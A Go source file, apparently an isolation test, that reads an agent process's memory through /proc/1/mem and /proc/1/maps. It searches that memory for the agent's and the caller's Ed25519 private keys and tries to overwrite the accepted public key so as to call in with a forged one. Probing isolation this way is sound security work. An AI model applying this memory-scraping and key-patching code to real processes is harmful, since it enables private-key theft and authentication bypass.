package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/x509"
	"fmt"
	"os"
	"slices"
	"strings"
)

// maxRegion bounds how many bytes of one region of the agent's memory are read.
const maxRegion = 256 << 20

// region is a part of the agent's memory, and its address.
type region struct {
	at   int64
	data []byte
}

// tryMemory searches the agent's memory for the private keys of the caller and of
// the agent itself. It returns the agent's key.
func tryMemory(caller ed25519.PrivateKey) (agents ed25519.PrivateKey) {
	try("memory", func(context.Context) string {
		mem, err := os.Open("/proc/1/mem")
		if err != nil {
			return "unreadable: " + err.Error()
		}
		defer mem.Close()
		regions, err := regionsOf(mem)
		if err != nil {
			return err.Error()
		}
		certificate, err := x509.ParseCertificate(slices.Concat(theirCertificate(agent)...))
		if err != nil {
			return err.Error()
		}
		callers := false
		for _, r := range regions {
			if key := seedOf(r.data, certificate.PublicKey.(ed25519.PublicKey)); key != nil {
				agents = key
			}
			callers = callers || seedOf(r.data, caller.Public().(ed25519.PublicKey)) != nil
		}
		return fmt.Sprintf("has the agent's key: %v, the caller's: %v", agents != nil, callers)
	})
	return agents
}

// tryOverwriting replaces the key that the agent accepts, in the agent's memory, by
// another one, and calls with that.
func tryOverwriting(caller ed25519.PrivateKey) {
	try("memory, overwritten", func(ctx context.Context) string {
		mem, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0)
		if err != nil {
			return "unwritable: " + err.Error()
		}
		defer mem.Close()
		mine := freshKey()
		if err := overwrite(mem, caller[ed25519.SeedSize:], mine[ed25519.SeedSize:]); err != nil {
			return err.Error()
		}
		return call(ctx, secured(agent, certificateOf(mine)))
	})
}

// overwrite replaces each occurrence of old by as many bytes.
func overwrite(mem *os.File, old, replacement []byte) error {
	regions, err := regionsOf(mem)
	if err != nil {
		return err
	}
	for _, r := range regions {
		for at := 0; ; at += len(old) {
			i := bytes.Index(r.data[at:], old)
			if i < 0 {
				break
			}
			at += i
			if _, err := mem.WriteAt(replacement, r.at+int64(at)); err != nil {
				return err
			}
		}
	}
	return nil
}

// regionsOf returns the regions of the agent's memory that the agent can write to.
func regionsOf(mem *os.File) ([]region, error) {
	maps, err := os.ReadFile("/proc/1/maps")
	if err != nil {
		return nil, err
	}
	var regions []region
	for line := range strings.Lines(string(maps)) {
		var from, to uint64
		var mode string
		if _, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); err != nil {
			return nil, err
		}
		if !strings.HasPrefix(mode, "rw") {
			continue
		}
		data := make([]byte, min(to-from, maxRegion))
		if n, _ := mem.ReadAt(data, int64(from)); n > 0 { // some regions cannot be read
			regions = append(regions, region{int64(from), data[:n]})
		}
	}
	return regions, nil
}
